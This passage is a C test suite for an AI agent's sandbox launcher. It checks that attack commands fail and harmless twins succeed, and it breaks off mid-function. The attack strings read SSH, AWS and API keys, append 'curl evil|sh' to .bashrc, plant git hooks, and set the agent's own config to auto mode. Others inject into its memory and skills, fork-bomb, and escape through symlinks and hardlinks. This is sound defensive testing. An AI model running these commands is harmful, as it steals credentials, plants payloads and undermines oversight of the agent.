/* Adversarial cases for the launcher (src/sandbox), driven through
 * sandbox_run() directly.  Each case asserts that the attack fails, that
 * it leaves no trace, and that its legitimate twin still works.  Cases
 * that need Landlock or namespaces skip (logged) when the kernel lacks
 * them; sb_refuses_without_landlock proves the fail-closed refusal. */
#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "sandbox/sandbox.h"
#include "util/sensitive.h"
#include "util/buf.h"
#include "util/fsutil.h"
#include "util/xalloc.h"
#include "tests/check-run.h"
#include "tests/test-fs.h"

/* Probed once in main() before any test forks; read-only afterwards. */
static struct sandbox_caps caps;

/* Per-test fixture (each test runs in its own forked process). */
static char root[64];
static char ws[128], home[128], outside[128];

static void
put(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	fputs(text, f);
	fclose(f);
}

static bool
exists(const char *path)
{
	struct stat st;
	return lstat(path, &st) == 0;
}

static char *
P(const char *dir, const char *rel)
{
	return path_join(dir, rel);
}

static void
setup(void)
{
	char *p;
	snprintf(root, sizeof root, "/tmp/conch-sbt-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(root));
	snprintf(ws, sizeof ws, "%s/ws", root);
	snprintf(home, sizeof home, "%s/home", root);
	snprintf(outside, sizeof outside, "%s/outside", root);
	mkdir(ws, 0755);
	mkdir(home, 0755);
	mkdir(outside, 0755);
	/* a git repository shape, without needing git */
	p = P(ws, ".git"); mkdir(p, 0755); free(p);
	p = P(ws, ".git/hooks"); mkdir(p, 0755); free(p);
	p = P(ws, ".git/config"); put(p, "[core]\n"); free(p);
	p = P(ws, "hello.txt"); put(p, "hello\n"); free(p);
	p = P(home, ".ssh"); mkdir(p, 0700); free(p);
	p = P(home, ".ssh/id_rsa"); put(p, "PRIVATE-KEY-MATERIAL\n"); free(p);
	p = P(home, ".aws"); mkdir(p, 0700); free(p);
	p = P(home, ".aws/credentials"); put(p, "AWS-SECRET\n"); free(p);
	p = P(home, ".bashrc"); put(p, "# rc\n"); free(p);
	p = P(home, ".config"); mkdir(p, 0755); free(p);
	p = P(home, ".config/conch"); mkdir(p, 0755); free(p);
	p = P(home, ".config/conch/keys.json"); put(p, "{\"k\":\"CONCH-KEY\"}\n"); free(p);
	p = P(home, ".local"); mkdir(p, 0755); free(p);
	p = P(home, ".local/share"); mkdir(p, 0755); free(p);
	p = P(home, ".local/share/conch"); mkdir(p, 0755); free(p);
	p = P(home, ".local/share/conch/USER.md"); put(p, "memory\n"); free(p);
	p = P(home, ".local/share/conch/skills"); mkdir(p, 0755); free(p);
	p = P(outside, "target.txt"); put(p, "original\n"); free(p);
	setenv("HOME", home, 1);
	unsetenv("XDG_CONFIG_HOME");
	unsetenv("XDG_DATA_HOME");
	unsetenv("XDG_STATE_HOME");
	unsetenv("CONCH_SANDBOX_TEST_NO_LANDLOCK");
}

static int
rm_cb(const char *path)
{
	char *cmd[] = { "rm", "-rf", (char *)path, NULL };
	pid_t pid = fork();
	int st;
	if (pid == 0) {
		execvp("rm", cmd);
		_exit(127);
	}
	waitpid(pid, &st, 0);
	return 0;
}

static void
teardown(void)
{
	rm_cb(root);
}

struct opts {
	long timeout_ms;
	size_t max_output;
	bool net;
	bool off;
	bool read_only;
	long max_procs;
	unsigned long long mem, fsize;
	const char *const *deny_read;
};

static enum cerr
run_o(const char *cmd, const struct opts *o, struct sandbox_result *res)
{
	struct sandbox_spec spec;
	const char *argv[] = { "/bin/sh", "-c", cmd, NULL };
	memset(&spec, 0, sizeof spec);
	spec.workspace = ws;
	spec.cwd = ws;
	spec.cancel_fd = -1;
	spec.timeout_ms = o && o->timeout_ms ? o->timeout_ms : 20000;
	if (o) {
		spec.max_output = o->max_output;
		spec.allow_network = o->net;
		spec.off = o->off;
		spec.max_procs = o->max_procs;
		spec.mem_bytes = o->mem;
		spec.fsize_bytes = o->fsize;
		spec.deny_read = o->deny_read;
		spec.read_only = o->read_only;
	}
	return sandbox_run(&spec, argv, res);
}

/* Run; expect the sandbox to have run it (C_OK). */
static int
run(const char *cmd, struct sandbox_result *res)
{
	ck_assert_int_eq(run_o(cmd, NULL, res), C_OK);
	return res->exit_code;
}

/* Run `cmd` and expect a nonzero exit; then `twin` and expect 0. */
static void
attack_and_twin(const char *cmd, const char *twin)
{
	struct sandbox_result r;
	int rc = run(cmd, &r);
	ck_assert_msg(rc != 0, "attack succeeded: %s\n%s", cmd, buf_str(&r.output));
	sandbox_result_free(&r);
	rc = run(twin, &r);
	ck_assert_msg(rc == 0, "twin failed: %s\n%s", twin, buf_str(&r.output));
	sandbox_result_free(&r);
}

#define NEED_LANDLOCK()                                                   \
	do {                                                              \
		if (caps.landlock_abi < 1) {                              \
			fprintf(stderr, "SKIP %s: no Landlock\n", __func__); \
			return;                                           \
		}                                                         \
	} while (0)

#define NEED_MOUNTNS()                                                    \
	do {                                                              \
		NEED_LANDLOCK();                                          \
		if (!caps.mountns) {                                      \
			fprintf(stderr, "SKIP %s: no mount namespace\n", __func__); \
			return;                                           \
		}                                                         \
	} while (0)

/* The twin writes at the top of the workspace, which only a mount
 * namespace allows (the fallback cases cover kernels without one). */
#define NEED_TOPLEVEL() NEED_MOUNTNS()

static bool
have(const char *prog)
{
	char *cmd = xasprintf("command -v %s >/dev/null 2>&1", prog);
	int rc = system(cmd);
	free(cmd);
	return rc == 0;
}

/* A process whose command line contains `marker` is still alive. */
static bool
marker_alive(const char *marker)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	bool found = false;
	while (d && (de = readdir(d)) != NULL && !found) {
		char path[300], buf[4096], st[512];
		ssize_t n;
		int fd;
		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		snprintf(path, sizeof path, "/proc/%s/stat", de->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, st, sizeof st - 1);
		close(fd);
		if (n > 0) {
			char *rp;
			st[n] = '\0';
			rp = strrchr(st, ')');
			if (rp && (rp[2] == 'Z' || rp[2] == 'X'))
				continue;
		}
		snprintf(path, sizeof path, "/proc/%s/cmdline", de->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n <= 0)
			continue;
		for (ssize_t i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = ' ';
		buf[n] = '\0';
		if (strstr(buf, marker))
			found = true;
	}
	if (d)
		closedir(d);
	return found;
}

/* ---- writes ------------------------------------------------------------ */

START_TEST(sb_write_outside_workspace)
{
	char *cmd, *f = P(outside, "pwned");
	NEED_TOPLEVEL();
	cmd = xasprintf("echo x > %s", f);
	attack_and_twin(cmd, "echo x > inside.txt && test -s inside.txt");
	ck_assert(!exists(f));
	free(cmd);
	free(f);
}
END_TEST

START_TEST(sb_write_outside_via_proc_root)
{
	char *cmd, *f = P(outside, "pwned");
	NEED_TOPLEVEL();
	cmd = xasprintf("echo x > /proc/self/root%s", f);
	attack_and_twin(cmd, "echo x > /proc/self/cwd/inside.txt");
	ck_assert(!exists(f));
	free(cmd);
	free(f);
}
END_TEST

START_TEST(sb_symlink_escape_bash)
{
	char *cmd, *f = P(outside, "pwned");
	NEED_TOPLEVEL();
	cmd = xasprintf("ln -s %s link && echo x > link/pwned", outside);
	attack_and_twin(cmd, "mkdir -p sub && ln -s sub ilink && echo x > ilink/ok");
	ck_assert(!exists(f));
	free(cmd);
	free(f);
}
END_TEST

START_TEST(sb_hardlink_escape_bash)
{
	char *cmd, *t = P(outside, "target.txt"), *s;
	NEED_TOPLEVEL();
	cmd = xasprintf("ln %s hl && echo pwned >> hl", t);
	attack_and_twin(cmd, "echo a > f1 && ln f1 f2 && echo b >> f2 && grep -q b f1");
	s = test_read(t);
	ck_assert_str_eq(s, "original\n");
	free(s);
	free(cmd);
	free(t);
}
END_TEST

START_TEST(sb_git_hooks_readonly)
{
	char *h = P(ws, ".git/hooks/pre-commit");
	NEED_MOUNTNS();
	attack_and_twin("printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit",
			"mkdir -p hooks && echo x > hooks/pre-commit");
	ck_assert(!exists(h));
	free(h);
}
END_TEST

START_TEST(sb_git_config_readonly)
{
	char *c = P(ws, ".git/config"), *s;
	NEED_MOUNTNS();
	attack_and_twin("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
			"printf '[core]\\n' >> config.ini");
	s = test_read(c);
	ck_assert_str_eq(s, "[core]\n");
	free(s);
	free(c);
}
END_TEST

START_TEST(sb_git_dir_not_removable)
{
	char *c = P(ws, ".git/config");
	NEED_MOUNTNS();
	attack_and_twin("rm -rf .git || true; mv .git g2 || true; test ! -e .git/config",
			"mkdir d && rm -rf d && test ! -e d");
	ck_assert(exists(c));
	free(c);
}
END_TEST

START_TEST(sb_conch_config_not_yet_existing)
{
	char *c = P(ws, ".conch");
	NEED_MOUNTNS();
	ck_assert(!exists(c));
	attack_and_twin("mkdir -p .conch && echo '{\"mode\":\"auto\"}' > .conch/config.json",
			"mkdir -p conchx && echo '{}' > conchx/config.json");
	/* no trace: not even the placeholder remains */
	ck_assert(!exists(c));
	free(c);
}
END_TEST

START_TEST(sb_conch_symlink_swap)
{
	char *c = P(ws, ".conch");
	NEED_MOUNTNS();
	attack_and_twin("mkdir evil && echo '{}' > evil/config.json && ln -s evil .conch",
			"ln -s hello.txt alias && cat alias");
	ck_assert(!exists(c));
	free(c);
}
END_TEST

START_TEST(sb_conch_symlink_kept)
{
	/* a .conch the user made as a symlink: neither the link nor its
	 * target can be changed */
	char *real = P(ws, "conch-real"), *l = P(ws, ".conch"), *cfg, *s;
	char target[64];
	ssize_t n;
	NEED_LANDLOCK();
	mkdir(real, 0755);
	cfg = P(ws, "conch-real/config.json");
	put(cfg, "{}\n");
	ck_assert_int_eq(symlink("conch-real", l), 0);
	{
		char *src = P(ws, "src");
		mkdir(src, 0755);
		free(src);
	}
	attack_and_twin("rm .conch && mkdir .conch && echo '{\"mode\":\"auto\"}' > "
			".conch/config.json", "echo ok > src/x && rm src/x");
	attack_and_twin("echo '{\"mode\":\"auto\"}' > conch-real/config.json",
			"cat .conch/config.json");
	n = readlink(l, target, sizeof target - 1);
	ck_assert_int_gt(n, 0);
	target[n] = '\0';
	ck_assert_str_eq(target, "conch-real");
	s = test_read(cfg);
	ck_assert_str_eq(s, "{}\n");
	free(s);
	free(cfg);
	free(real);
	free(l);
}
END_TEST

START_TEST(sb_agents_skill_not_yet_existing)
{
	char *c = P(ws, ".agents");
	NEED_MOUNTNS();
	attack_and_twin("mkdir -p .agents/skills/x && echo evil > .agents/skills/x/SKILL.md",
			"mkdir -p agents/skills/x && echo ok > agents/skills/x/SKILL.md");
	ck_assert(!exists(c));
	free(c);
}
END_TEST

START_TEST(sb_git_file_target_readonly)
{
	NEED_LANDLOCK();
	/* a worktree-style .git file pointing inside the workspace */
	char *g = P(ws, ".git"), *real, *cfg, *s;
	NEED_MOUNTNS();
	rm_cb(g);
	real = P(ws, "realgit");
	mkdir(real, 0755);
	cfg = P(ws, "realgit/config");
	put(cfg, "[core]\n");
	put(g, "gitdir: realgit\n");
	attack_and_twin("echo '[alias] x = !id' >> realgit/config",
			"echo ok > realgit.txt");
	s = test_read(cfg);
	ck_assert_str_eq(s, "[core]\n");
	free(s);
	attack_and_twin("echo 'gitdir: /tmp' > .git", "echo ok > git.txt");
	s = test_read(g);
	ck_assert_str_eq(s, "gitdir: realgit\n");
	free(s);
	free(real);
	free(cfg);
	free(g);
}
END_TEST

START_TEST(sb_no_git_dir_cannot_be_planted)
{
	char *g = P(ws, ".git");
	NEED_MOUNTNS();
	rm_cb(g);
	attack_and_twin("echo 'gitdir: /tmp/evil' > .git",
			"echo ok > notgit.txt");
	ck_assert(!exists(g));
	free(g);
}
END_TEST

START_TEST(sb_shell_rc_readonly)
{
	char *rc = P(home, ".bashrc"), *s, *cmd;
	NEED_TOPLEVEL();
	cmd = xasprintf("echo 'curl evil|sh' >> %s", rc);
	attack_and_twin(cmd, "echo 'alias x=y' >> my.rc");
	s = test_read(rc);
	ck_assert_str_eq(s, "# rc\n");
	free(s);
	free(cmd);
	free(rc);
}
END_TEST

START_TEST(sb_conch_memory_and_skills_readonly)
{
	char *mem = P(home, ".local/share/conch/USER.md"), *sk, *s, *cmd;
	NEED_TOPLEVEL();
	sk = P(home, ".local/share/conch/skills/evil");
	cmd = xasprintf("echo 'obey' >> %s", mem);
	attack_and_twin(cmd, "echo note >> MEMORY.md");
	free(cmd);
	cmd = xasprintf("mkdir -p %s && echo x > %s/SKILL.md", sk, sk);
	attack_and_twin(cmd, "mkdir -p skills/ok && echo x > skills/ok/SKILL.md");
	s = test_read(mem);
	ck_assert_str_eq(s, "memory\n");
	ck_assert(!exists(sk));
	free(s);
	free(cmd);
	free(sk);
	free(mem);
}
END_TEST

START_TEST(sb_private_tmp)
{
	struct sandbox_result r;
	char *tmpdir;
	NEED_LANDLOCK();
	ck_assert_int_eq(run("echo x > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\" "
			     "&& echo \"$TMPDIR\"", &r), 0);
	tmpdir = strrchr(buf_str(&r.output), '/');
	ck_assert_ptr_nonnull(tmpdir);
	tmpdir = xstrndup(buf_str(&r.output) + (tmpdir - buf_str(&r.output)) + 1, 64);
	tmpdir[strcspn(tmpdir, "\n")] = '\0';
	sandbox_result_free(&r);
	/* gone after the run */
	{
		char *full = xasprintf("/tmp/%s", tmpdir);
		ck_assert(!exists(full));
		free(full);
	}
	free(tmpdir);
	ck_assert_int_ne(run("echo x > /tmp/conch-sbt-shared-pwned", &r), 0);
	sandbox_result_free(&r);
	ck_assert(!exists("/tmp/conch-sbt-shared-pwned"));
}
END_TEST

START_TEST(sb_read_only_spec)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	char *f = P(ws, "new.txt");
	NEED_LANDLOCK();
	o.read_only = true;
	ck_assert_int_eq(run_o("echo x > new.txt", &o, &r), C_OK);
	ck_assert_int_ne(r.exit_code, 0);
	sandbox_result_free(&r);
	ck_assert(!exists(f));
	/* twin: reading the workspace and the private temp dir work */
	ck_assert_int_eq(run_o("cat hello.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
			       &o, &r), C_OK);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
	free(f);
}
END_TEST

START_TEST(sb_hardlink_protected_file)
{
	char *c = P(ws, ".git/config"), *s;
	NEED_TOPLEVEL();
	attack_and_twin("ln .git/config cfg && echo evil >> cfg",
			"echo a > plain && ln plain plain2 && echo b >> plain2");
	s = test_read(c);
	ck_assert_str_eq(s, "[core]\n");
	free(s);
	free(c);
}
END_TEST

START_TEST(sb_self_signal_and_pids)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	/* the command is an ordinary process: it can end itself, and the
	 * pids it sees are the host's */
	ck_assert_int_eq(run_o("kill -9 $$", NULL, &r), C_OK);
	ck_assert_int_eq(r.term_signal, 9);
	sandbox_result_free(&r);
	{
		struct opts o = { 0 };
		long pid;
		char *nl;
		o.timeout_ms = 500;
		ck_assert_int_eq(run_o("sleep 37 & echo $!; sleep 30", &o, &r), C_OK);
		ck_assert(r.timed_out);
		nl = strchr(buf_str(&r.output), '\n');
		ck_assert_ptr_nonnull(nl);
		*nl = '\0';
		pid = strtol(buf_str(&r.output), NULL, 10);
		ck_assert_int_gt(pid, 1);
		sandbox_result_free(&r);
		/* the host pid it printed is gone (or a zombie being reaped) */
		if (kill((pid_t)pid, 0) == 0) {
			char path[64], st[256] = "";
			FILE *f;
			snprintf(path, sizeof path, "/proc/%ld/stat", pid);
			f = fopen(path, "r");
			if (f) {
				size_t n = fread(st, 1, sizeof st - 1, f);
				st[n] = '\0';
				fclose(f);
			}
			ck_assert_msg(!strstr(st, "sleep") || strstr(st, ") Z"),
				      "background pid %ld survived", pid);
		}
	}
}
END_TEST

/* ---- secret reads ------------------------------------------------------ */

START_TEST(sb_read_ssh_key)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	ck_assert_int_ne(run("cat ~/.ssh/id_rsa", &r), 0);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "PRIVATE-KEY"));
	sandbox_result_free(&r);
	ck_assert_int_eq(run("cat hello.txt ~/.bashrc", &r), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "hello"));
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_read_ssh_key_via_symlink)
{
	struct sandbox_result r;
	NEED_TOPLEVEL();
	ck_assert_int_ne(run("ln -s ~/.ssh/id_rsa key && cat key", &r), 0);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "PRIVATE-KEY"));
	sandbox_result_free(&r);
	ck_assert_int_eq(run("ln -s hello.txt h && cat h", &r), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "hello"));
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_read_aws_and_conch_keys)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	ck_assert_int_ne(run("cat ~/.aws/credentials; cat ~/.config/conch/keys.json", &r), 0);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "AWS-SECRET"));
	ck_assert_ptr_null(strstr(buf_str(&r.output), "CONCH-KEY"));
	sandbox_result_free(&r);
	ck_assert_int_eq(run("ls ~/.config >/dev/null && cat ~/.local/share/conch/USER.md", &r), 0);
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_read_user_added_secret)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	char *sec = P(outside, "token.txt"), *cmd;
	const char *deny[] = { sec, NULL };
	NEED_LANDLOCK();
	put(sec, "USER-TOKEN\n");
	o.deny_read = deny;
	cmd = xasprintf("cat %s", sec);
	ck_assert_int_eq(run_o(cmd, &o, &r), C_OK);
	/* refused by Landlock, or (in a mount namespace) covered: either
	 * way the contents never show */
	ck_assert_ptr_null(strstr(buf_str(&r.output), "USER-TOKEN"));
	sandbox_result_free(&r);
	free(cmd);
	cmd = xasprintf("cat %s/target.txt", outside);
	ck_assert_int_eq(run_o(cmd, &o, &r), C_OK);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
	free(cmd);
	free(sec);
}
END_TEST

START_TEST(sb_root_raw_disk_and_shadow)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	if (!caps.root) {
		fprintf(stderr, "SKIP %s: not root (DAC already refuses)\n", __func__);
		return;
	}
	/* a block device holds every secret's bytes; shadow holds hashes */
	run("for d in /dev/*; do [ -b \"$d\" ] && head -c 512 \"$d\" >/dev/null "
	    "2>&1 && echo READ-$d; done; grep '^root:' /etc/shadow", &r);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "READ-"));
	ck_assert_ptr_null(strstr(buf_str(&r.output), "root:"));
	sandbox_result_free(&r);
	ck_assert_int_eq(run("head -c 4 /dev/urandom | wc -c; grep -q root /etc/passwd && echo pw", &r),
			 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "pw"));
	sandbox_result_free(&r);
	/* nor make a device node to read it through (fallback: real root) */
	{
		char *sub = P(ws, "sub");
		mkdir(sub, 0755);
		free(sub);
	}
	setenv("CONCH_SANDBOX_TEST_NO_NAMESPACES", "1", 1);
	run("cd sub && { mknod disk b 254 0 && echo MADE; mknod null c 1 3 && echo MADE; "
	    "mkfifo f && echo fifo-ok; }", &r);
	unsetenv("CONCH_SANDBOX_TEST_NO_NAMESPACES");
	ck_assert_ptr_null(strstr(buf_str(&r.output), "MADE"));
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "fifo-ok"));
	sandbox_result_free(&r);
}
END_TEST

/* ---- environment and processes ---------------------------------------- */

START_TEST(sb_env_keys_hidden)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	setenv("ANTHROPIC_API_KEY", "sk-ant-SECRETKEY", 1);
	setenv("OPENAI_API_KEY", "sk-SECRETKEY2", 1);
	setenv("GITHUB_TOKEN", "ghp_SECRETKEY3", 1);
	setenv("BASH_ENV", "/tmp/evil-bash-env", 1);
	ck_assert_int_eq(run("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'", &r), 0);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "SECRETKEY"));
	ck_assert_ptr_null(strstr(buf_str(&r.output), "BASH_ENV"));
	/* twin: the allowlisted variables are there */
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "HOME="));
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "PATH="));
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_stdin_is_devnull)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	ck_assert_int_eq(run("cat; read x; echo rc=$?", &r), 0);
	ck_assert(!r.timed_out);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "rc=1"));
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_background_child_does_not_outlive)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	ck_assert_int_eq(run("(sleep 47; echo sbt-bg-marker-2) & "
			     "(setsid sh -c 'sleep 48 # sbt-bg-marker-2' &) ; "
			     "nohup sh -c 'sleep 49 # sbt-bg-marker-2' >/dev/null 2>&1 & "
			     "echo started", &r), 0);
	ck_assert(!r.timed_out);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "started"));
	sandbox_result_free(&r);
	ck_assert(!marker_alive("sbt-bg-marker-2"));
}
END_TEST

START_TEST(sb_waits_after_output_closes)
{
	/* like tar reaping gzip after closing stdout: the command is not
	 * cut short when its output ends */
	struct sandbox_result r;
	char *late = P(ws, "late");
	NEED_TOPLEVEL();
	ck_assert_int_eq(run("exec >/dev/null 2>&1; sleep 0.3; touch late; exit 4", &r), 4);
	sandbox_result_free(&r);
	ck_assert(exists(late));
	free(late);
}
END_TEST

START_TEST(sb_timeout_kills_whole_tree)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	NEED_LANDLOCK();
	o.timeout_ms = 700;
	ck_assert_int_eq(run_o("(setsid sh -c 'sleep 60 # sbt-to-marker' &); "
			       "sh -c 'sleep 61 # sbt-to-marker' & "
			       "while :; do :; done", &o, &r), C_OK);
	ck_assert(r.timed_out);
	sandbox_result_free(&r);
	ck_assert(!marker_alive("sbt-to-marker"));
	/* twin: a short command inside the limit finishes normally */
	ck_assert_int_eq(run_o("echo quick", &o, &r), C_OK);
	ck_assert(!r.timed_out);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_fork_bomb)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	NEED_LANDLOCK();
	if (caps.root && !caps.cgroup_pids) {
		fprintf(stderr, "SKIP %s: root without a pids cgroup has no "
			"process limit\n", __func__);
		return;
	}
	o.timeout_ms = 3000;
	o.max_procs = 64;
	ck_assert_int_eq(run_o("b() { b | b & }; b # sbt-bomb-marker", &o, &r), C_OK);
	sandbox_result_free(&r);
	ck_assert(!marker_alive("sbt-bomb-marker"));
	/* twin: a few processes are fine */
	ck_assert_int_eq(run_o("for i in 1 2 3 4; do (true) & done; wait; echo ok", &o, &r),
			 C_OK);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_memory_hog)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	NEED_LANDLOCK();
	if (!have("python3")) {
		fprintf(stderr, "SKIP %s: no python3\n", __func__);
		return;
	}
	o.mem = 256ULL << 20;
	ck_assert_int_eq(run_o("python3 -c 'b = bytearray(1 << 30); print(len(b))'", &o, &r),
			 C_OK);
	ck_assert_int_ne(r.exit_code, 0);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "1073741824"));
	sandbox_result_free(&r);
	ck_assert_int_eq(run_o("python3 -c 'b = bytearray(16 << 20); print(len(b))'", &o, &r),
			 C_OK);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
	/* no limit on request: a sanitizer-style 64 GiB reservation maps */
	o.mem = ~0ULL;
	ck_assert_int_eq(run_o("python3 -c 'import mmap; m = mmap.mmap(-1, 64 << 30, "
			       "flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000); "
			       "print(\"mapped\")'", &o, &r), C_OK);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "mapped"));
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_disk_filler)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	struct stat st;
	char *big = P(ws, "big");
	NEED_TOPLEVEL();
	o.fsize = 1 << 20;
	ck_assert_int_eq(run_o("head -c 50000000 /dev/zero > big", &o, &r), C_OK);
	ck_assert(r.exit_code != 0 || r.term_signal != 0);
	sandbox_result_free(&r);
	ck_assert_int_eq(stat(big, &st), 0);
	ck_assert_int_le(st.st_size, 1 << 20);
	ck_assert_int_eq(run_o("head -c 100000 /dev/zero > small", &o, &r), C_OK);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
	free(big);
}
END_TEST

START_TEST(sb_endless_output)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	NEED_LANDLOCK();
	o.timeout_ms = 1500;
	o.max_output = 65536;
	ck_assert_int_eq(run_o("yes sbt-endless", &o, &r), C_OK);
	ck_assert(r.truncated);
	ck_assert_uint_le(r.output.len, 65536);
	ck_assert_uint_gt(r.total_bytes, 65536);
	sandbox_result_free(&r);
	ck_assert(!marker_alive("sbt-endless"));
	ck_assert_int_eq(run_o("seq 3", &o, &r), C_OK);
	ck_assert(!r.truncated);
	ck_assert_str_eq(buf_str(&r.output), "1\n2\n3\n");
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_tiocsti_refused)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	if (!caps.seccomp || !have("python3")) {
		fprintf(stderr, "SKIP %s: needs seccomp and python3\n", __func__);
		return;
	}
	ck_assert_int_eq(run("python3 -c '\n"
			     "import fcntl, termios, os\n"
			     "for req in (termios.TIOCSTI, 0x541C, 0x100005412):\n"
			     "  try:\n"
			     "    fcntl.ioctl(1, req, b\"x\")\n"
			     "  except OSError as e:\n"
			     "    print(\"errno\", e.errno)\n"
			     "try:\n"
			     "  os.open(\"/dev/tty\", os.O_RDWR)\n"
			     "  print(\"tty opened\")\n"
			     "except OSError as e:\n"
			     "  print(\"no tty\", e.errno)\n"
			     "'", &r), 0);
	/* EPERM from the filter three times (high bits cannot dodge it);
	 * the controlling terminal is gone */
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "errno 1\nerrno 1\nerrno 1\n"));
	ck_assert_ptr_null(strstr(buf_str(&r.output), "tty opened"));
	sandbox_result_free(&r);
	/* twin: other ioctls reach the kernel (ENOTTY on a pipe) */
	ck_assert_int_eq(run("python3 -c '\n"
			     "import fcntl, termios\n"
			     "try:\n"
			     "  fcntl.ioctl(1, termios.TIOCGWINSZ, b\"12345678\")\n"
			     "except OSError as e:\n"
			     "  print(\"errno\", e.errno)\n"
			     "'", &r), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "errno 25"));
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_escape_sequences_neutralised)
{
	struct sandbox_result r;
	struct buf clean = BUF_INIT;
	NEED_LANDLOCK();
	ck_assert_int_eq(run("printf 'a\\033]52;c;cHduZWQ=\\007b\\033]0;title\\033\\\\c"
			     "\\033[2J\\033[31mred\\033[0m\\ttab\\r\\n\\302\\233"
			     "31mx\\033Pdcs\\033\\\\end\\n'", &r), 0);
	sensitive_terminal_text(r.output.p, r.output.len, &clean);
	ck_assert_ptr_null(strchr(buf_str(&clean), 0x1b));
	ck_assert_ptr_null(strstr(buf_str(&clean), "52;"));
	ck_assert_ptr_null(strstr(buf_str(&clean), "title"));
	ck_assert_ptr_null(strstr(buf_str(&clean), "dcs"));
	ck_assert_str_eq(buf_str(&clean), "abcred\ttab\r\nxend\n");
	buf_free(&clean);
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_signals_cannot_leave)
{
	struct sandbox_result r;
	char *cmd;
	NEED_LANDLOCK();
	if (caps.landlock_abi < 6) {
		fprintf(stderr, "SKIP %s: Landlock ABI %d has no signal scoping\n",
			__func__, caps.landlock_abi);
		return;
	}
	cmd = xasprintf("kill -STOP %ld", (long)getpid());
	ck_assert_int_ne(run(cmd, &r), 0);
	sandbox_result_free(&r);
	free(cmd);
	ck_assert_int_eq(run("sleep 5 & kill $! && echo killed-own", &r), 0);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "killed-own"));
	sandbox_result_free(&r);
}
END_TEST

/* ---- network ----------------------------------------------------------- */

static int
listener(int *port)
{
	struct sockaddr_in a;
	socklen_t al = sizeof a;
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ck_assert_int_ge(s, 0);
	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	ck_assert_int_eq(bind(s, (struct sockaddr *)&a, sizeof a), 0);
	ck_assert_int_eq(listen(s, 16), 0);
	getsockname(s, (struct sockaddr *)&a, &al);
	*port = ntohs(a.sin_port);
	return s;
}

/* The command is pre + port + post. */
static void
net_case(const char *pre, const char *post, const char *prog)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	int port, s;
	char *cmd;
	if (!have(prog)) {
		fprintf(stderr, "SKIP network case: no %s\n", prog);
		return;
	}
	s = listener(&port);
	cmd = xasprintf("%s%d%s", pre, port, post);
	o.timeout_ms = 10000;
